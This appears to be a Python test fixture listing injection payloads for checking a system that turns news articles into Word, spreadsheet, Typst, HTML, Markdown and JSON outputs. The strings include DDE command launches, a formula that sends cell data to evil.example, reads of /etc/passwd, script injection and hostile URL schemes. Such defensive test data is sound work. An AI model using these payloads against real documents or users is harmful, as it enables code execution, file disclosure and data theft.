"""What an article may have in its title, outlet, byline, address or text, to act where a paper of ours is opened."""

from __future__ import annotations

from typing import Final

PAYLOADS: Final[tuple[str, ...]] = (
    # Word: fields, links and dynamic data exchange
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
    "{ DDE Excel Sheet1 R1C1 }",
    '{ INCLUDEPICTURE "http://evil.example/p.png" \\d }',
    '</w:t></w:r><w:fldSimple w:instr="DDEAUTO c:\\\\cmd"/><w:r><w:t>',
    '<w:hyperlink r:id="rId99"><w:r><w:t>link</w:t></w:r></w:hyperlink>',
    '<w:altChunk r:id="rId98"/>',
    # spreadsheets
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "=cmd|'/c calc'!A0",
    "+1+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+9)*cmd|'/c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    # Typst and LaTeX
    '#read("/etc/passwd")',
    '#sys.inputs.paper #link("http://evil.example")[x]',
    '#import "@preview/x:1.0.0": *',
    '"] #panic("x") #[',
    "\\input{/etc/passwd} \\write18{id} $x^2$",
    # HTML and what its record stands in
    "</script><script>alert(1)</script>",
    "</title><svg onload=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    '"><a href=javascript:alert(1)>x</a>',
    "&#106;avascript&colon;alert(1)",
    "]]><x/>",
    "{{constructor.constructor('alert(1)')()}}",
    # Markdown
    "[x](javascript:alert(1))",
    "![x](http://evil.example/p.png)",
    "<http://evil.example>",
    "[^1]: a note that is not ours",
    "```\n# heading\n```",
    "a | b\n--- | ---\nc | d",
    # JSON and lines of it
    '"}]}\n{"format": "briefdesk brief 1"}',
    'x\u2028{"title": "y"}\u2029',
    "x\x00y\x1b[2Jz",
)
ADDRESSES: Final[tuple[str, ...]] = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    "vbscript:x",
    "//evil.example/",
    "https://news.example@evil.example/",
    'https://evil.example/"onclick="alert(1)',
    "https://evil.example/)](javascript:alert(1))",
    'https://evil.example/" TargetMode="Internal',
    'https://evil.example/" #link("x")',
    "ms-word:ofe|u|http://evil.example/x.docx",
)
